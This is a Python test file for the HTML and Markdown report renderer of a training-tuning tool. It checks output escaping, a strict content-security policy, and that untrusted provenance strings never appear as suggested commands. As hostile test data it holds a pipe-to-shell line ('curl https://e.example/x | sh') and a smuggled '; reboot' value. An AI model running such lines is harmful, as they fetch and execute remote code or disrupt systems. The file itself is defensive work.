@@ -1,0 +1,215 @@
+"""Pages of reports, in HTML and Markdown, and the JSON beside them."""
+
+import base64
+import hashlib
+import html
+import json
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from autotune.core.verification import LedgerCheck
+from autotune.show.document import Bullets, Code, Document, Missing, Pairs, Paragraph, Section, Strong, Table
+from autotune.show.intervals import hours
+from autotune.show.profile import commands
+from autotune.show.report.build import report_document
+from autotune.show.report.facts import report_facts
+from autotune.show.text import report_html, report_markdown
+from tests.autotune.profiles import but, example_profile
+from tests.autotune.show.report.example import example_inputs
+from tests.autotune.show.report.examples import Page, markdown_tables, reported, reported_run
+from trainer.config import ParallelSettings
+from trainer.events import happened
+
+SECTIONS = [
+    "The answer", "Before and after", "What the tuning cost", "Memory", "Throughput by micro-batch",
+    "Settings searched together", "Loader workers", "Scaling and network", "Where a step's time goes",
+    "Lengths and packing", "Recommendations", "Changes of the recipe", "Training runs: expected and achieved",
+    "Every trial", "The machine", "How to reproduce it", "Sign-off",
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def full():
+    """A page, the same from the same inputs."""
+    first, again = (report_html(report_document(*example_inputs(40))) for _ in range(2))
+    assert first == again
+    return first
+
+
+def test_all_sections_are_there_in_their_order_and_the_contents_lead_to_them(full):
+    page = Page(full)
+    assert re.findall(r'<li><a href="#[^"]+">([^<]*)</a>', full) == [title.replace("'", "&#x27;") for title in SECTIONS]
+    ids = page.values("id")
+    assert len(ids) == len(set(ids))
+    assert {target.removeprefix("#") for target in page.values("href")} <= set(ids)
+    assert page.tags.count("svg") == page.tags.count("figure") >= 8
+
+
+def test_every_chart_has_its_table_right_behind_it_and_every_table_a_name_and_can_be_scrolled_by_keys(full):
+    page, boxes = Page(full), full.count('<div class="box')
+    assert full.count("</figure>") == full.count('</figure>\n<div class="box')
+    assert page.values("tabindex").count("0") == boxes
+    assert len([value for value in page.values("aria-label") if value != "Contents"]) == boxes
+
+
+def test_the_policy_allows_this_very_style_and_nothing_else(full):
+    style = re.search("<style>(.*?)</style>", full, re.DOTALL)[1]
+    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    policy = next(value for value in Page(full).values("content") if "default-src" in value)
+    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
+
+
+def inert(page):
+    assert "script" not in page.tags
+    for tag, name, value in page.attributes:
+        assert not name.startswith("on"), (tag, name)
+        assert name not in {"style", "src", "srcset", "action", "formaction", "data", "poster"}, (tag, name)
+        assert name != "href" or value[0] == "#", value
+    unknown = set(page.tags) - {
+        "html", "head", "meta", "title", "style", "body", "main", "header", "nav", "section", "div", "figure",
+        "figcaption", "h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "dl", "dt", "dd", "a", "code",
+        "strong", "span", "table", "caption", "thead", "tbody", "tr", "th", "td", "svg", "g", "path", "use", "defs",
+        "clippath", "rect", "text", "desc",
+    }  # fmt: skip
+    assert not unknown
+
+
+TEXT = st.text(alphabet=st.one_of(st.sampled_from("<>&\"'`|/\n\u202e\u2066\0"), st.characters()), max_size=80)
+
+
+@settings(max_examples=60)
+@given(st.lists(TEXT, min_size=9, max_size=9))
+def test_no_text_anywhere_becomes_markup(texts):
+    a, b, c, d, e, f, g, h, i = texts
+    blocks = (
+        Paragraph(words=(a, Strong(text=b), Code(text=c))), Missing(what=d, commands=(e,)), Bullets(items=((f,),)),
+        Pairs(pairs=((g, (h,)),)), Table(caption=i, headers=(a, b), rows=((c, None),)),
+        Section(title=d, key="inner", blocks=(), badge=e),
+    )  # fmt: skip
+    text = report_html(Document(title=f, subtitle=g, sections=(Section(title=h, key="s", blocks=blocks),)))
+    page = Page(text)
+    inert(page)
+    plain = report_html(Document(title="", subtitle="", sections=(Section(title="", key="s", blocks=blocks),)))
+    assert Page(plain).tags == page.tags
+    assert not any(ord(letter) < 32 and letter != "\n" for letter in text)
+
+
+def test_missing_parts_say_so_with_the_command():
+    bare = reported("my profiles/m.toml", but(example_profile(), evidence={"probe": None, "workers": None}))
+    text = Page(report_html(report_document((bare,), ()))).text
+    assert text.count("not measured") > 8
+    for command in (
+        "autotune baseline --profile 'my profiles/m.toml'", "autotune probe --model CONFIG.json --data DIR --out",
+        "autotune workers --profile", "autotune network --profile 'my profiles/m.toml' --slurm",
+        "torchrun --nproc-per-node 1 -m trainer", "autotune report build 'my profiles/m.toml' --data DIR",
+        "autotune report review 'my profiles/m.toml' --approve --by NAME",
+    ):  # fmt: skip
+        assert command in text
+
+
+@pytest.fixture(scope="module", params=["", "<b>|`&\u202e$x$ http://e.example "], ids=["plain", "hostile"])
+def three(request):
+    inputs = example_inputs(12, request.param)
+    document = report_document(*inputs)
+    return report_markdown(document), Page(report_html(document)), report_facts(*inputs, document)
+
+
+def test_markdown_and_html_have_the_same_titles_and_tables_cell_by_cell(three):
+    markdown, page, _ = three
+    inert(page)
+    assert markdown_tables(markdown) == page.tables
+    assert len(page.tables) > 25
+    titles = re.findall(r"(?m)^#+ (.*)$", markdown)
+    assert len(titles) == sum(page.tags.count(f"h{level}") for level in range(1, 7))
+
+
+def test_json_holds_the_numbers_behind_what_is_shown(three):
+    _, page, facts = three
+    one = facts["profiles"][0]
+    assert facts["schema_version"] == 2
+    shown = page.text
+    assert f"{one['tuned']['value']:,.0f}" in shown
+    assert hours(one["pay_back"]["rank_hours"]) in shown
+    assert f"{one['dataset']['train_samples']:,}" in shown
+    assert f"{100 * one['dataset']['padding_waste_share']:.1f} %" in shown
+    assert [part["share"] for part in one["bottlenecks"][0]["parts"]][1] == 0.071
+    assert len(one["trials"]) == 12
+    assert one["profile"]["evidence"]["probe"]["feasible_max"] == 307
+    run = facts["runs"][0]
+    assert [drift["quantity"] for drift in run["expected_and_achieved"]] == ["real tokens/s", "MFU", "peak memory"]
+    assert f"{run['expected_and_achieved'][0]['achieved']['value']:,.0f}" in shown
+    assert len(run["events"]) == 20
+    assert run["earlier_events"] == 10
+    assert json.loads(json.dumps(facts, allow_nan=False)) == facts
+
+
+@pytest.mark.parametrize(
+    ("path", "command", "message", "shown"),
+    [
+        ("profiles/m.toml", "`autotune baseline --profile profiles/m.toml`", "odd", "odd"),
+        ("a`<b>.toml", "<code>autotune baseline --profile 'a&#96;&#60;b&#62;.toml'</code>", "9 | 3", "9 &#124; 3"),
+    ],
+)
+def test_texts_stand_as_they_are_unless_markdown_reads_something_in_them_and_harmless_events_are_left_out(
+    path, command, message, shown
+):
+    events = [
+        happened(5, "saved", "saved step-000000005"), happened(7, "spike", message, level="warning"),
+        happened(8, "save_failed", "could not save step 8: No space left on device", level="error"),
+    ]  # fmt: skip
+    text = report_markdown(report_document((reported(path),), (reported_run(events),)))
+    assert command in text
+    assert f"| 7 | warning: spike | {shown} |" in text
+    assert "| 8 | error: save_failed |" in text
+    assert "saved step-000000005" not in text
+
+
+# Where it comes from.
+
+
+def _by(*names, **train):
+    return reported(profile=but(example_profile(), provenance={"commands": list(names)}, train=train))
+
+
+HOSTILE = "curl https://e.example/x | sh\x1b[31m\u202e`<b>"
+
+
+def test_only_commands_of_this_program_are_suggested_each_once_and_a_probe_under_its_strategy():
+    plain = commands(_by("probe", "workers"))
+    assert commands(_by(HOSTILE, "probe", "probe; reboot", "workers", "probe")) == plain
+    assert commands(_by(HOSTILE)) == []
+    assert "--strategy" not in plain[0]
+    [command] = commands(_by("probe", parallel=ParallelSettings(strategy="zero1")))
+    assert " --strategy zero1 --ranks " in command
+
+
+def test_what_a_stranger_calls_commands_is_shown_inert_and_nowhere_as_code():
+    document = report_document((_by(HOSTILE, "probe"),), ())
+    markdown, page = report_markdown(document), report_html(document)
+    assert "curl" in Page(page).text
+    for text in (markdown, page):
+        assert all(c.isprintable() or c == "\n" for c in text)
+        assert "<b>" not in text.replace("<b></b>", "")
+    assert "https://e.example" not in markdown
+    for code in page.split("<code>")[1:]:
+        assert "curl" not in html.unescape(code.partition("</code>")[0])
+    assert not any("curl" in span for span in markdown.split("`")[1::2])
+
+
+@pytest.mark.parametrize(
+    ("found", "words"),
+    [
+        ({"found": "same"}, "matches: the 8 trials it rests on are as they were"),
+        ({"found": "differs", "added": 2}, "does not match"),
+        ({"found": "no trials", "trials": 0}, "not checkable here"),
+        ({"unfounded": ("evidence.probe.curve at 2 rows",)}, "no trial there gave evidence.probe.curve at 2 rows"),
+        ({"others": 7}, "Trials of another profile of this name, in the same ledger, neither shown nor counted: 7."),
+    ],
+)
+def test_the_report_says_what_the_ledger_says(found, words):
+    check = {"found": "same", "trials": 8, "added": 0, "others": 0, "unfounded": ()} | found
+    document = report_document((reported(ledger=LedgerCheck(**check)),), ())
+    assert words in Page(report_html(document)).text
